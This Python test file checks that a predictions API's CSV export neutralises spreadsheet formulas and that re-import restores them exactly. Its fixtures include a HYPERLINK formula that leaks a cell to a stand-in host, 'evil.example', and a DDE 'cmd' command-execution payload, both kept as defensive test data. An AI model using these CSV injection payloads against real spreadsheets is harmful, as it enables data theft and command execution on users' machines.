"""CSV export neutralises spreadsheet formulas (OWASP), and the import restores them exactly."""

import csv
import io

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.engine import Engine

from app.models import Role
from app.predictions.columns import neutralise, restore
from tests.conftest import make_key, truncate_all
from tests.predictions.conftest import prediction_body

URL = "/api/v1/predictions"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")'
CMD = "=cmd|' /C calc'!A0"
# Claims as an editor typed them; each one a spreadsheet would run, or nearly.
CLAIMS = [
    HYPERLINK,
    CMD,
    "-1+2",
    "@SUM(A1:A9)",
    "+44 20 7946 0000 is the number to call",
    "-- not a formula, only text that looks negative",
    "'=already quoted by hand",
    "''=two quotes by hand",
    "'a quote before ordinary text",
    "an ordinary claim",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=x", "'\r=x"),
        ("'=x", "''=x"),
        ("''-x", "'''-x"),
        ("'plain", "'plain"),
        ("''", "''"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_a_cell_is_neutralised_and_restored_exactly(value: str, cell: str) -> None:
    assert neutralise(value) == cell
    assert restore(cell) == value


def _seed(client: TestClient, headers: dict) -> None:
    for number, claim in enumerate(CLAIMS):
        body = prediction_body(
            claim=claim,
            quote=f"{claim} (quote {number})",
            author={"name": "@pundit" if number == 0 else "Andrew Latham"},
            source={
                "url": f"https://www.example.com/{number}",
                "title": f"=T{number}()",
                "published_at": "2025-03-14T09:00:00Z",
            },
        )
        response = client.post(URL, json=body, headers=headers)
        assert response.status_code == 201, response.text


def _export(client: TestClient) -> str:
    response = client.get(f"{URL}/export?format=csv")
    assert response.status_code == 200
    return response.text


def test_no_exported_cell_starts_a_formula(client: TestClient, editor_headers: dict) -> None:
    _seed(client, editor_headers)
    rows = list(csv.reader(io.StringIO(_export(client))))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    by_claim = {row[7]: row for row in rows[1:]}
    assert set(by_claim) == {
        "'" + HYPERLINK,
        "'" + CMD,
        "'-1+2",
        "'@SUM(A1:A9)",
        "'+44 20 7946 0000 is the number to call",
        "'-- not a formula, only text that looks negative",
        "''=already quoted by hand",
        "'''=two quotes by hand",
        "'a quote before ordinary text",
        "an ordinary claim",
    }
    assert by_claim["'" + HYPERLINK][1] == "'@pundit"
    assert by_claim["'" + CMD][4] == "'=T1()"


def test_export_then_import_round_trips_exactly(
    client: TestClient, editor_headers: dict, engine: Engine
) -> None:
    _seed(client, editor_headers)
    first = _export(client)
    truncate_all(engine)
    key = make_key(engine, "editor@example.org", Role.editor)
    response = client.post(
        f"{URL}/import",
        content=first.encode(),
        headers={"Authorization": f"Bearer {key}", "Content-Type": "text/csv"},
    )
    assert response.status_code == 200, response.text
    assert response.json()["predictions"] == len(CLAIMS)
    claims = [p["claim"] for p in client.get(f"{URL}?limit=100&sort=made_at").json()["items"]]
    assert sorted(claims) == sorted(CLAIMS)
    second = _export(client)
    assert _without(second, "horizon_text") == _without(first, "horizon_text")


def _without(text: str, column: str) -> list[dict[str, str]]:
    # The import reads a deadline from its date, so its horizon words are the date's.
    return [
        {k: v for k, v in row.items() if k != column} for row in csv.DictReader(io.StringIO(text))
    ]
